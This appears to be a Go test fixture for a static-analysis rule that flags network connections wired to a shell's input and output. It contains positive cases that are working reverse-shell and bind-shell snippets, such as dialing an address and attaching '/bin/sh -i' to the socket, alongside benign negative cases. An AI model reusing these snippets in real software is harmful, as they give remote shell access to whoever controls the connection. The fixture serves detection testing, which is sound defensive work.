package agent

import (
	"context"
	"crypto/tls"
	"io"
	"net"
	"os"
	"os/exec"
)

func out(address string) {
	c, err := net.Dial("tcp", address)
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh", "-i")
	// ruleid: go-connection-becomes-shell-stream
	cmd.Stdin = c
	// ruleid: go-connection-becomes-shell-stream
	cmd.Stdout = c
	cmd.Run()
}

func serve(conn net.Conn) {
	cmd := exec.Command("bash")
	in, _ := cmd.StdinPipe()
	// ruleid: go-connection-becomes-shell-stream
	go io.Copy(in, conn)
	cmd.Start()
}

func wait(l net.Listener) {
	for {
		c, _ := l.Accept()
		sh := exec.Command("/bin/ash")
		// ruleid: go-connection-becomes-shell-stream
		sh.Stderr = c
		sh.Run()
	}
}

func local() {
	cmd := exec.Command("/bin/sh", "-c", "df")
	// ok: go-connection-becomes-shell-stream
	cmd.Stdout = os.Stdout
	cmd.Run()
}

func sorted(conn net.Conn) {
	cmd := exec.Command("/usr/bin/sort")
	// ok: go-connection-becomes-shell-stream
	cmd.Stdin = conn
	cmd.Run()
}

func echo(conn net.Conn) {
	// ok: go-connection-becomes-shell-stream
	io.Copy(conn, conn)
}

type station struct {
	link net.Conn
	unit string
}

func (s *station) program(path string, args ...string) *exec.Cmd {
	c := exec.Command(path, args...)
	c.Env = []string{"PATH=/bin"}
	return c
}

func (s *station) attend(path string) error {
	c := s.program(path, "-l")
	// ruleid: go-connection-becomes-shell-stream
	c.Stdin = s.link
	c.Stdout = s.link
	return c.Run()
}

func (s *station) work(server string) error {
	d := &net.Dialer{}
	conn, err := tls.DialWithDialer(d, "tcp", server, nil)
	if err != nil {
		return err
	}
	s.link = conn
	return s.attend("/usr/libexec/" + s.unit)
}

func literal(path string, l *net.TCPListener) {
	peer, _ := l.AcceptTCP()
	// ruleid: go-connection-becomes-shell-stream
	c := exec.Cmd{Path: path, Stdin: peer, Stdout: peer}
	c.Run()
}

func files(d net.Dialer, path, where string) {
	c, _ := d.DialContext(context.Background(), "tcp", where)
	f, _ := c.(*net.TCPConn).File()
	// ruleid: go-connection-becomes-shell-stream
	at := &os.ProcAttr{Files: []*os.File{f, f, f}}
	os.StartProcess(path, []string{path}, at)
}

func (s *station) state(name string) error {
	c := s.program("/usr/bin/journalctl", "-u", name)
	// ok: go-connection-becomes-shell-stream
	c.Stdout = s.link
	return c.Run()
}

func fromFile(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	c := exec.Command("/bin/sh")
	// ok: go-connection-becomes-shell-stream
	c.Stdin = f
	return c.Run()
}
